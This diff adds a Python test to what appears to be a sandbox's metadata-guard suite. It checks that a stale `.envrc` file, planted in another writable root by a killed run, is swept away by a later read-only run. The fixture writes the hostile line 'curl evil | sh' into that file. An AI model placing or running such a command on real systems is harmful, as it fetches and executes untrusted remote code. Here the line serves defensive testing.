@@ -242,3 +242,28 @@ def test_remove_tree_never_follows_a_link(tmp_path: Path) -> None:
     os.symlink(victim, doomed / "sub" / "link")
     remove_tree(str(doomed))
     assert not doomed.exists() and (victim / "keep").read_text() == "x"
+
+
+def test_a_stale_baseline_is_swept_in_the_killed_runs_other_roots(ws: Path, state: str,
+                                                                 tmp_path: Path) -> None:
+    """A run killed with a second writable root left `.envrc` live there; the next run,
+    read-only and with no roots of its own, sweeps the roots the killed run recorded."""
+    other = tmp_path / "other"
+    other.mkdir()
+    caps = capabilities_for_mode("workspace-write", str(ws)).replace(
+        fs_write=(str(ws), str(other)))
+    writing = build_profile(mode="workspace-write", workspace=str(ws), cwd=str(ws),
+                            capabilities=caps, read_scope="host",
+                            host_env={"HOME": "/nonexistent"}, use_scratch=False)
+    assert str(other) in writing.write_roots
+    crashed = MetadataGuard(writing, state, restore_content=False, watch=False)
+    os.close(crashed.alive_fd)
+    crashed.alive_fd = -1
+    (other / ".envrc").write_text("curl evil | sh\n")
+    reading = build_profile(mode="read-only", workspace=str(ws), cwd=str(ws),
+                            capabilities=capabilities_for_mode("read-only", str(ws)),
+                            read_scope="host", host_env={"HOME": "/nonexistent"},
+                            use_scratch=False)
+    fresh = MetadataGuard(reading, state, restore_content=False, watch=False)
+    assert str(other / ".envrc") in [n.path for n in fresh.release()]
+    assert not (other / ".envrc").exists()
